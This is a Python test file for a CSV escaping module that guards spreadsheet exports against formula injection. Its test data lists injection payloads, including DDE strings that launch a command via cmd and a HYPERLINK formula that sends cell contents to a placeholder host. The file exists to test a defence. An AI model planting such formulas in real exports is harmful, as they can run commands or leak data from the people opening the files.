"""The one CSV escaping: what a spreadsheet might run gets an apostrophe, nothing else changes,
and the importer reads every escaped cell back as the text it stands for."""

from __future__ import annotations

import csv
import doctest
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from importers import cells, csv_escape
from importers.csv_escape import SafeWriter, escape, runs_as_formula, unescape

RUNNABLE = ['=1+1', '=HYPERLINK("http://example.invalid/?"&A1,"点此")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "-HYPERLINK(\"x\")", "  =A1", "\t=1", "\rx", "\u200b=1", "＝SUM(A1)", "－1+1",
            "-张三反映", "+86 139 0000 0000"]
PLAIN = ["张三", "-5", "+8613900000000", "12.5", "a=b", "'", "", "走访 =1", "—", "'abc"]


@pytest.mark.parametrize("text", RUNNABLE)
def test_what_a_spreadsheet_might_run_gets_an_apostrophe(text):
    assert runs_as_formula(text)
    assert escape(text) == "'" + text and not runs_as_formula(escape(text))
    assert unescape(escape(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_everything_else_is_written_as_it_is(text):
    assert escape(text) == text and unescape(text) is None


def test_only_text_is_escaped():
    assert [escape(v) for v in (-5, 3.5, None, True)] == [-5, 3.5, None, True]


@settings(max_examples=500, deadline=None, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from("'=+-@＝＋－＠\t\r \u3000\u200b0123456789.aA(|张"), max_size=8))
def test_escaping_is_reversible_and_never_leaves_a_formula(text):
    written = escape(text)
    assert not runs_as_formula(written)
    assert (unescape(written) if written != text else text) == text
    assert unescape(written) is None or written == "'" + text


def test_the_writer_escapes_every_cell_and_the_csv_reads_back():
    buffer = io.StringIO()
    writer = SafeWriter(buffer, lineterminator="\n")
    writer.writerow(["备注", "金额"])
    writer.writerows([['=HYPERLINK("http://x","y"),"', -5], ["走访", 12]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["备注", "金额"], ['\'=HYPERLINK("http://x","y"),"', "-5"], ["走访", "12"]]


@pytest.mark.parametrize("text", RUNNABLE + ["'=1", "''=1"])
def test_the_importer_reads_an_escaped_cell_as_its_text(text):
    """What an export wrote imports back unchanged (surrounding space aside, which the importer
    always strips), so backups of text written through the APIs restore."""
    assert cells.text(escape(text)) == text.strip(" \t\r\u200b")
    assert cells.key(escape(text)) == cells.halfwidth(text).strip(" \t\r\u200b")


def test_a_formula_cell_without_the_apostrophe_is_still_refused():
    with pytest.raises(cells.CellError):
        cells.text('=HYPERLINK("http://example.invalid")')


def test_the_docstring_examples_hold():
    assert doctest.testmod(csv_escape).failed == 0
